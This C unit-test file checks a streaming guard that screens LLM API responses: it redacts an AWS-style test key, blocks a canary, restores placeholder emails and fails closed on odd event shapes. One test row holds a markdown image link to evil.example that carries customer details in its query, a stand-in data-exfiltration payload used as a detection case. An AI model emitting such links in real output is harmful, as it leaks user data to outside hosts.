/* SPDX-License-Identifier: Apache-2.0 */
/* Streams side by side, the modes, blocks, bounds, and what nobody knows. */
#include "stream_rig.h"
#include "detect/data/mask.h"
#include "guard/judge/schema.h"
#include "guard/screen/stream_part.h"

#define AWS "AKIAYQFODESARIWXLIXQ"

static struct played played;
static struct buf bytes, said;
static struct guard_scope usual;

static int fresh(void **state)
{
    (void)state;
    scope = usual;
    buf_reset(&bytes);
    buf_reset(&played.out);
    buf_reset(&said);
    return 0;
}

static const struct record_side_of *side(void)
{
    return &played.record.side[RECORD_ANSWER];
}

static void chat(const char *events)
{
    buf_reset(&played.out);
    play(&protocols[0], slice_str(events), 0, 0, &played);
}

static void expect_text(uint16_t output, enum part_channel channel, const char *want)
{
    buf_reset(&said);
    assert_true(heard(&protocols[0], buf_slice(&played.out), channel, output, &said));
    assert_string_equal(buf_text(&said), want);
}

/* ---- byte for byte ---- */

static void exact(const struct protocol *p, struct slice in)
{
    for (size_t at = 1; at <= in.n; at++) {
        buf_reset(&played.out);
        play(p, in, at, 0, &played);
        if (!slice_eq(buf_slice(&played.out), in))
            fail_msg("%s, cut at %zu: %s\n%s", p->surface, at,
                     played.record.match_count ? played.record.matches[0].rule->id : "",
                     buf_text(&played.out));
    }
    buf_reset(&played.out);
    play(p, in, 0, 1, &played);
    assert_true(slice_eq(buf_slice(&played.out), in));
}

#define SAY(text) "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" text "\"}}]}"

static void odd_framing(void **state)
{
    (void)state;
    const struct protocol *chat = &protocols[0], *lines = &protocols[4];
    exact(chat, S("\xef\xbb\xbf" SAY("hello") "\n\n: a comment\n\n\n\n" SAY("there") "\n\n"));
    exact(chat, S(SAY("hello") "\r\n\r\nid: 7\r\n" SAY("there") "\r\n\r\n:\r\n\r\ndata:\r\n\r\n"));
    exact(chat, S(SAY("hello") "\r\r" SAY("there") "\r\revent: message\rdata: [DONE]\r\r"));
    exact(chat, S(": c\n" SAY("hello") "\nretry: 100\n\n" SAY("there")));
    exact(chat, S("data: {\"choices\":\ndata: [{\"delta\":{\"content\":\"two lines \"}}]}\n\n\n"));
    exact(lines,
          S("{\"message\":{\"content\":\"hello\"}}\r\n\n  \n{\"done\":true,\"response\":\"x\"}"));
}

static void golden(const char *name, size_t which)
{
    char path[512];
    static uint8_t file[65536];
    const char *folder = getenv("GOLDEN");
    snprintf(path, sizeof path, "%s/surface/%s", folder ? folder : "tests/golden", name);
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    size_t n = fread(file, 1, sizeof file, f);
    fclose(f);
    exact(&protocols[which], slice_of(file, n));
}

static void as_sent(void **state)
{
    (void)state;
    scope.unknown_passes = true;
    scope.policy = (struct policy){0}; /* their addresses and numbers are none of our business */
    for (size_t c = 0; c < CHECKS; c++) scope.policy.open[c] = true;
    golden("chat.events.sse", 0);
    golden("completions.events.sse", 1);
    golden("responses.events.sse", 2);
    golden("messages.events.sse", 3);
    golden("ollama.chat.events.ndjson", 4);
    golden("mcp.events.sse", 5);
}

/* ---- side by side ---- */

#define OF(index, text) \
    SSE("{\"choices\":[{\"index\":" index ",\"delta\":{\"content\":\"" text "\"}}]}")
#define CALL(index, text)                                                         \
    SSE("{\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":" index \
        ",\"function\":{"                                                         \
        "\"arguments\":\"" text "\"}}]}}]}")

static void interleaved(void **state)
{
    (void)state;
    chat(OF("0", "key AKIAYQFO") OF("1", "Dear [EMA") OF("0", "DESARI") OF("1", "IL_1], your")
             OF("0", "WXLIXQ") OF("1", " key AKIAYQFODESA") OF("0", " ok") OF("1", "RIWXLIXQ."));
    expect_text(0, PART_TEXT, "key [redacted] ok");
    expect_text(1, PART_TEXT, "Dear jane@corp.net, your key [redacted].");
    assert_int_equal(played.record.match_count, 2);
    chat(CALL("0", "{\\\"k\\\":\\\"AKIAYQFO") CALL("1", "{\\\"k\\\":\\\"[EMAI")
             CALL("0", "DESARIWXLIXQ\\\"}") CALL("1", "L_1]\\\"}"));
    expect_text(0, PART_TOOL_CALL, "{\"k\":\"[redacted]{\"k\":\"jane@corp.net\"}\"}");
    /* one event, three texts */
    chat(SSE("{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"a AKIAYQFO\"}},{\"index\":1,"
             "\"delta\":{\"content\":\"b\",\"reasoning\":\"c AKIA\"}}]}")
             SSE("{\"choices\":[{\"index\":1,\"delta\":{\"reasoning\":\"YQFODESARIWXLIXQ\"}},{"
                 "\"index\":0,\"delta\":{\"content\":\"DESARIWXLIXQ\"}}]}"));
    expect_text(0, PART_TEXT, "a [redacted]");
    expect_text(1, PART_TEXT, "b");
    expect_text(1, PART_THINKING, "c [redacted]");
}

/* vLLM and OpenRouter say what was thought twice, under two names. */
static void twice(void **state)
{
    (void)state;
#define THINK(text)                                                               \
    SSE("{\"choices\":[{\"index\":0,\"delta\":{\"reasoning\":\"" text             \
        "\",\"reasoning_content\" : \"" text                                      \
        "\",\"reasoning_details\":[{\"type\":\"reasoning.text\",\"text\":\"" text \
        "\",\"index\":0}]}}]}")
    chat(THINK("a AKIAYQFO") THINK("DESARIWX") THINK("LIXQ b"));
    expect_text(0, PART_THINKING, "a [redacted]a [redacted]a [redacted] b b b");
    assert_int_equal(played.record.match_count, 3);
}

/* One text, whatever else is said of its pieces; an index must be one. */
static void one_text(void **state)
{
    (void)state;
#define PIECE(inner) SSE("{\"choices\":[{" inner "}]}")
    static const char *const seconds[] = {
        PIECE("\"delta\":{\"content\":\"DESARIWXLIXQ b\"}"),
        PIECE("\"index\":0,\"delta\":{\"role\":\"tool\",\"content\":\"DESARIWXLIXQ b\"}"),
        PIECE("\"index\":0,\"delta\":{\"role\":\"user\",\"content\":\"DESARIWXLIXQ b\"}"),
        PIECE("\"index\":0,\"delta\":{\"Content\":\"DESARIWXLIXQ b\"}"),
    };
    for (size_t i = 0; i < COUNT_OF(seconds); i++) {
        char text[512];
        (void)snprintf(text, sizeof text, "%s%s",
                       PIECE("\"index\":0,\"delta\":{\"content\":\"a AKIAYQFO\"}"), seconds[i]);
        chat(text);
        assert_false(slice_has(buf_slice(&played.out), S("AKIA")));
        assert_true(slice_has(buf_slice(&played.out), S("[redacted]")));
    }
    chat(PIECE("\"index\":0.5,\"delta\":{\"content\":\"a\"}"));
    assert_int_equal(played.step, STREAM_BLOCKED);
}

/* What nobody knows to grow is not held, but seen with its last piece. */
static void in_pieces(void **state)
{
    (void)state;
    static const struct {
        const char *before, *behind;
    } places[] = {
        {"\"zork\":\"", "\""},
        {"\"zork\":[{\"type\":\"zork\",\"zork\":\"", "\"}]"},
        {"\"tool_calls\":[{\"index\":0,\"function\":{\"name\":\"", "\"}}]"},
    };
    static const char *const pieces[] = {"AKIA", "YQFODE", "SARIWX", "LIXQ"};
    for (size_t i = 0; i < COUNT_OF(places); i++) {
        char text[2048];
        size_t n = 0;
        for (size_t k = 0; k < COUNT_OF(pieces); k++)
            n +=
                (size_t)snprintf(text + n, sizeof text - n, PIECE("\"index\":0,\"delta\":{%s%s%s}"),
                                 places[i].before, pieces[k], places[i].behind);
        chat(text);
        assert_int_equal(played.step, STREAM_BLOCKED);
        assert_true(slice_has(buf_slice(&played.out), S("SARIWX")));
        assert_false(slice_has(buf_slice(&played.out), S("LIXQ")));
    }
}

/* Who goes on behind an end is read on from there: what has left has left, the rest does not. */
static void behind_the_end(void **state)
{
    (void)state;
    static const char *const ends[] = {
        PIECE("\"index\":0,\"delta\":{},\"finish_reason\":\"length\""), SSE("[DONE]")};
    for (size_t i = 0; i < COUNT_OF(ends); i++) {
        char text[512];
        (void)snprintf(text, sizeof text, "%s%s%s",
                       PIECE("\"index\":0,\"delta\":{\"content\":\"a AKIAYQFO\"}"), ends[i],
                       PIECE("\"index\":0,\"delta\":{\"content\":\"DESARIWXLIXQ b\"}"));
        chat(text);
        expect_text(0, PART_TEXT, "a AKIAYQFO[redacted] b");
        assert_int_equal(played.record.match_count, 1);
    }
}

/* Content blocks one after the other: each is a text of its own. */
static void blocks(void **state)
{
    (void)state;
#define BLOCK(n, text)                                                                            \
    SSE("{\"type\":\"content_block_start\",\"index\":" n ",\"content_block\":{\"type\":\"text\"," \
        "\"text\":\"\"}}")                                                                        \
    SSE("{\"type\":\"content_block_delta\",\"index\":" n ",\"delta\":{\"type\":\"text_delta\","   \
        "\"text\":\"" text "\"}}")                                                                \
    SSE("{\"type\":\"content_block_stop\",\"index\":" n "}")
    play(&protocols[3], S(BLOCK("0", "AKIAYQFODESA") BLOCK("1", "RIWXLIXQ") BLOCK("2", "is " AWS)),
         0, 0, &played);
    assert_true(heard(&protocols[3], buf_slice(&played.out), PART_TEXT, PART_FLOW_NONE, &said));
    assert_string_equal(buf_text(&said), "AKIAYQFODESARIWXLIXQis [redacted]");
}

static void no_reason_is_no_end(void **state)
{
    (void)state;
#define OPEN(text)                                                                                 \
    SSE("{\"choices\":[{\"index\":0,\"finish_reason\":\"\",\"delta\":{\"content\":\"" text "\"}}]" \
        "}")
    chat(OPEN("key AKIAYQFO") OPEN("DESARIWXLIXQ"));
    expect_text(0, PART_TEXT, "key [redacted]");
}

/* ---- when it leaves ---- */

static void feed(struct guard_stream *s, const char *in, bool end, const char *want)
{
    buf_reset(&played.out);
    played.step = stream_feed(s, slice_str(in), end, &played.out);
    assert_string_equal(buf_text(&played.out), want);
}

static void in_time(void **state)
{
    (void)state;
    struct guard_stream *s = rig_stream(&protocols[0], &played.record);
    feed(s, ": ping\n\n", false, ": ping\n\n");
    feed(s, OF("0", "It is so. "), false, OF("0", "It is so. "));
    feed(s, OF("0", " AKIAYQ"), false, "");
    feed(s, ": ping\n\n", false, "");
    feed(s, OF("1", "Also, "), false, "");
    feed(s, "data: {\"choices\":[]", false, "");
    feed(s, "}\n\n", false, "");
    feed(s, OF("0", " so, then "), false,
         OF("0", " AKIAYQ") ": ping\n\n" OF("1", "Also, ") SSE("{\"choices\":[]}")
             OF("0", " so, then "));
    feed(s, "", true, "");
    stream_free(s);
    /* a text that ends lets go what waits */
    s = rig_stream(&protocols[0], &played.record);
    feed(s, OF("0", "AKIAYQ"), false, "");
#define STOP SSE("{\"choices\":[{\"index\":0,\"finish_reason\":\"stop\"}]}")
    feed(s, STOP, false, OF("0", "AKIAYQ") STOP);
    stream_free(s);
}

static void buffered(void **state)
{
    (void)state;
    scope.stream = HOLD_BUFFER;
    struct guard_stream *s = rig_stream(&protocols[0], &played.record);
    feed(s, OF("0", "It is. "), false, "");
    feed(s, OF("0", "So."), false, "");
    feed(s, STOP, false, OF("0", "It is. ") OF("0", "So.") STOP);
    stream_free(s);
    scope.stream = HOLD_BY_WINDOW;
    s = rig_stream(&protocols[0], &played.record);
    feed(s, OF("0", "It is. "), false, "");
    feed(s, OF("0", "So."), true, OF("0", "It is. ") OF("0", "So."));
    stream_free(s);
}

static void observed(void **state)
{
    (void)state;
    for (unsigned i = 0; i < 2; i++) {
        scope.enforce = i;
        scope.stream = HOLD_OBSERVE;
        struct guard_stream *s = rig_stream(&protocols[0], &played.record);
        feed(s, "data: {\"choices\":[{\"ind", false, "data: {\"choices\":[{\"ind");
        feed(s, "ex\":0,\"delta\":{\"content\":\"[EMAIL_1] " AWS "\"}}]}\n\n", false,
             "ex\":0,\"delta\":{\"content\":\"[EMAIL_1] " AWS "\"}}]}\n\n");
        feed(s, OF("0", " MERLON-CANARY-7f3a91c2d4 ") "data: what?\n\n", false,
             OF("0", " MERLON-CANARY-7f3a91c2d4 ") "data: what?\n\n");
        feed(s, "end", true, "end");
        assert_int_equal(played.step, STREAM_GO);
        assert_int_equal(played.record.match_count, 2);
        assert_int_equal(side()->action, i ? ACT_FLAG : ACT_BLOCK);
        assert_int_equal(side()->unread, UNREAD_SHAPE);
        assert_string_equal(played.record.matches[0].path, "choices[0].delta.content");
        stream_free(s);
    }
}

/* ---- blocks ---- */

static void blocked(void **state)
{
    (void)state;
    chat(OF("0", "Well. ") OF("0", "It is MERLON-CANARY-") OF("0", "7f3a91c2d4.") OF("0", "more"));
    assert_int_equal(played.step, STREAM_BLOCKED);
    assert_true(slice_starts(buf_slice(&played.out), S(OF("0", "Well. ") "data: {\"id\"")));
    assert_true(slice_has(buf_slice(&played.out), S("\"finish_reason\":\"content_filter\"")));
    assert_true(slice_ends(buf_slice(&played.out), S("data: [DONE]\n\n")));
    assert_true(slice_has(buf_slice(&played.out), S("\"blocked\":\"guard.canary\"")));
    assert_true(played.record.cut);
    /* numbers go on behind what was sent, not behind what was dropped */
#define DELTA(n, text)                                                                           \
    SSE("{\"type\":\"response.output_text.delta\",\"sequence_number\":" n ",\"output_index\":0," \
        "\"content_index\":0,\"delta\":\"" text "\"}")
    buf_reset(&played.out);
    play(&protocols[2],
         S(SSE("{\"type\":\"response.created\",\"sequence_number\":3,\"response\":{\"id\":\"r\","
               "\"output\":[]}}") DELTA("4", "Well. ") DELTA("5", "MERLON-")
               DELTA("6", "CANARY-7f3a91c2d4 so")),
         0, 0, &played);
    assert_true(
        slice_has(buf_slice(&played.out), S("\"sequence_number\":5,\"response\":{\"id\":\"r\"")));
    assert_false(slice_has(buf_slice(&played.out), S("MERLON")));
    /* a content block that was opened is closed */
    buf_reset(&played.out);
    play(&protocols[3], S(BLOCK("0", "Fine.") BLOCK("1", "MERLON-CANARY-7f3a91c2d4")), 0, 0,
         &played);
    assert_true(
        slice_has(buf_slice(&played.out), S("{\"type\":\"content_block_stop\",\"index\":1}")));
    assert_true(slice_ends(buf_slice(&played.out), S("{\"type\":\"message_stop\"}\n\n")));
}

static void blocks_stay(void **state)
{
    (void)state;
    struct guard_stream *s = rig_stream(&protocols[0], &played.record);
    buf_reset(&played.out);
    assert_int_equal(
        stream_feed(
            s,
            S(OF("0", "MERLON-CANARY-7f3a91c2d4, it is said here and there, of many things.\\nIt")),
            false, &played.out),
        STREAM_BLOCKED);
    size_t n = played.out.n;
    assert_int_equal(stream_feed(s, S(OF("0", "and more")), true, &played.out), STREAM_BLOCKED);
    assert_int_equal(played.out.n, n);
    stream_free(s);
}

/* ---- what nobody knows ---- */

static void unknown(void **state)
{
    (void)state;
    static const char *const odd[] = {SSE("{\"what\":\"" AWS "\"}"), SSE("what " AWS " is"),
                                      SSE("{\"a\":\"" AWS "\",\"a\":1}")};
    for (size_t i = 0; i < COUNT_OF(odd); i++) {
        scope.unknown_passes = false;
        chat(odd[i]);
        assert_int_equal(played.step, STREAM_BLOCKED);
        assert_int_equal(side()->unread, UNREAD_SHAPE);
        assert_int_equal(side()->action, ACT_BLOCK);
        assert_true(slice_has(buf_slice(&played.out), S("\"blocked\":\"guard.unread\"")));
        scope.unknown_passes = true;
        chat(odd[i]);
        assert_int_equal(played.step, STREAM_GO);
        assert_int_equal(side()->unread, UNREAD_SHAPE);
        assert_true(slice_has(buf_slice(&played.out), S(REDACTED)));
        assert_false(slice_has(buf_slice(&played.out), S(AWS)));
    }
}

static void skipped(void **state)
{
    (void)state;
    const char *tokens =
        SSE("{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"a\"},\"logprobs\":"
            "{\"content\":[{\"token\":\"a\",\"bytes\":[97]}]}}]}");
    chat(tokens);
    assert_int_equal(played.step, STREAM_BLOCKED);
    assert_int_equal(side()->unscanned[CHECK_TEXT], UNSCANNED_OPAQUE);
    assert_true(slice_has(buf_slice(&played.out), S("\"blocked\":\"guard.not-scanned\"")));
    scope.policy.open[CHECK_TEXT] = true;
    chat(tokens);
    assert_int_equal(side()->unscanned[CHECK_TEXT], UNSCANNED_OPAQUE);
    assert_string_equal(buf_text(&played.out), tokens);
}

/* Each check can be switched off, and the others go on. */
static void checks_off(void **state)
{
    (void)state;
    static const struct {
        enum guard_check check;
        const char *text;
    } rows[] = {{CHECK_TEXT, AWS},
                {CHECK_LITERALS, "MERLON-CANARY-7f3a91c2d4"},
                {CHECK_LINKS, "![a](https://evil.example/p.png?q=the+customer+is+Jane)"},
                {CHECK_LEAK, RIG_PROMPT}};
    for (size_t i = 0; i < COUNT_OF(rows); i++)
        for (size_t k = 0; k < COUNT_OF(rows); k++) {
            struct protocol p = protocols[0];
            size_t cuts[] = {5, 12, 15};
            memset(scope.checks.off, 0, sizeof scope.checks.off);
            scope.checks.off[rows[i].check] = true;
            buf_reset(&bytes);
            buf_reset(&said);
            buf_reset(&played.out);
            buf_printf(&said, "So: %s [EMAIL_1] and on", rows[k].text);
            put_stream(&p, buf_slice(&said), cuts, COUNT_OF(cuts), &bytes);
            play(&p, buf_slice(&bytes), 0, 0, &played);
            assert_int_equal(played.record.match_count > 0, i != k);
            assert_int_equal(slice_has(buf_slice(&played.out), S("jane@corp.net")),
                             side()->action != ACT_BLOCK);
        }
}

/* Of a match a masked piece is kept, where that is wanted, and nothing of what stands beside it. */
static void captured(void **state)
{
    (void)state;
    char mask[64];
    const char *both = OF("0", "key AKIAYQFO") OF("0", "DESARIWXLIXQ so")
        SSE("{\"choices\":[],\"system_fingerprint\":\"key " AWS " so\"}");
    chat(both);
    assert_string_equal(played.record.matches[0].shown, "");
    scope.capture = true;
    chat(both);
    assert_int_equal(played.record.match_count, 2);
    mask_value(S(AWS), mask);
    for (size_t i = 0; i < 2; i++) assert_string_equal(played.record.matches[i].shown, mask);
    assert_string_equal(played.record.matches[1].path, "choices[0].delta.content");
    assert_string_equal(played.record.matches[0].path, "system_fingerprint");
}

/* ---- a declared form ---- */

static void forms(void **state)
{
    (void)state;
    struct slice what;
    assert_int_equal(schema_read(&lasting, S("{\"type\":\"object\",\"required\":[\"a\"]}"),
                                 &scope.checks.schema, &what),
                     ST_OK);
    chat(OF("0", "{\\\"a\\\"") OF("0", ":1}") STOP);
    expect_text(0, PART_TEXT, "{\"a\":1}");
    chat(OF("0", "{\\\"b\\\"") OF("0", ":1}") STOP);
    assert_int_equal(played.step, STREAM_BLOCKED);
    assert_string_equal(side()->because->id, "answer.schema");
    expect_text(0, PART_TEXT, "");
    chat(OF("0", "{\\\"a\\\"") OF("0", ":1"));
    assert_int_equal(played.step, STREAM_BLOCKED);
}

/* ---- bounds ---- */

static void many(const char *event, size_t count, enum record_unread why)
{
    struct guard_stream *s = rig_stream(&protocols[0], &played.record);
    size_t i = 0;
    do {
        buf_reset(&bytes);
        buf_reset(&played.out);
        for (const char *c = event; *c; c++) {
            if (*c == '#')
                buf_u64(&bytes, i);
            else
                buf_byte(&bytes, (uint8_t)*c);
        }
        played.step = stream_feed(s, buf_slice(&bytes), false, &played.out);
    } while (played.step == STREAM_GO && ++i < count);
    assert_int_equal(played.step, why && scope.enforce ? STREAM_BLOCKED : STREAM_GO);
    assert_int_equal(side()->unread, why);
    assert_true(s->bytes.room + s->half.room + s->events.room * s->events.size +
                    s->pieces.room * s->pieces.size <
                12u << 20);
    stream_free(s);
}

static void bounds(void **state)
{
    (void)state;
    many(OF("#", "AKIAYQ"), STREAM_FLOWS, 0);
    many(OF("#", "AKIAYQ"), STREAM_FLOWS + 1, UNREAD_SIZE);
    many(": # a comment without an end, of a few hundred bytes and more and more of them", 20000,
         UNREAD_SIZE);
    scope.stream = HOLD_BUFFER;
    scope.answer_most = 0;
    many(OF("0", "#, "), 100000, UNREAD_SIZE);
    many("\n", 1000000, 0);
    scope.enforce = false;
    many(": # a comment without an end, of a few hundred bytes and more and more of them", 20000,
         UNREAD_SIZE);
}

/* As many as fit into an event: work must not grow with their square. */
static void crowd(const struct protocol *p, enum part_channel channel)
{
    static struct buf text;
    buf_init(&text, 2u << 20);
    buf_str(&text, "{\"a\":\"\\t\\u00e9 ");
    for (size_t i = 0; i < 60000; i++) buf_str(&text, "[EMAIL_1] ");
    buf_str(&text, "\"}");
    buf_reset(&bytes);
    put_stream(p, buf_slice(&text), NULL, 0, &bytes);
    buf_reset(&played.out);
    play(p, buf_slice(&bytes), 0, 0, &played);
    assert_int_equal(played.step, STREAM_GO);
    buf_reset(&said);
    assert_true(heard(p, buf_slice(&played.out), channel, PART_FLOW_NONE, &said));
    assert_true(slice_ends(buf_slice(&said), S(" jane@corp.net jane@corp.net \"}")));
    assert_false(slice_has(buf_slice(&said), S("EMAIL")));
    buf_done(&text);
}

static void crowds(void **state)
{
    (void)state;
    static const struct protocol calls[] = {
        {"messages", FRAMING_SSE, PART_ASSISTANT, PART_TOOL_CALL, "",
         SSE("{\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"partial_json\":\"@\"}}"),
         "", false},
        {"responses", FRAMING_SSE, PART_ASSISTANT, PART_TOOL_CALL, "",
         SSE("{\"type\":\"response.function_call_arguments.done\",\"arguments\":\"@\"}"), "",
         true}};
    crowd(&protocols[0], PART_TEXT);
    crowd(&protocols[5], PART_TOOL_RESULT);
    crowd(&calls[0], PART_TOOL_CALL);
    crowd(&calls[1], PART_TOOL_CALL);
}

int main(void)
{
#define ONE(f) cmocka_unit_test_setup(f, fresh)
    const struct CMUnitTest tests[] = {ONE(odd_framing),
                                       ONE(as_sent),
                                       ONE(interleaved),
                                       ONE(blocks),
                                       ONE(no_reason_is_no_end),
                                       ONE(in_time),
                                       ONE(buffered),
                                       ONE(observed),
                                       ONE(blocked),
                                       ONE(blocks_stay),
                                       ONE(unknown),
                                       ONE(skipped),
                                       ONE(forms),
                                       ONE(bounds),
                                       ONE(crowds),
                                       ONE(twice),
                                       ONE(checks_off),
                                       ONE(captured),
                                       ONE(one_text),
                                       ONE(behind_the_end),
                                       ONE(in_pieces)};
    buf_init(&played.out, 16u << 20);
    buf_init(&bytes, 16u << 20);
    buf_init(&said, 16u << 20);
    assert_int_equal(rig_begin(NULL), 0);
    usual = scope;
    int failed = cmocka_run_group_tests(tests, NULL, rig_end);
    buf_done(&played.out);
    buf_done(&bytes);
    buf_done(&said);
    return failed;
}
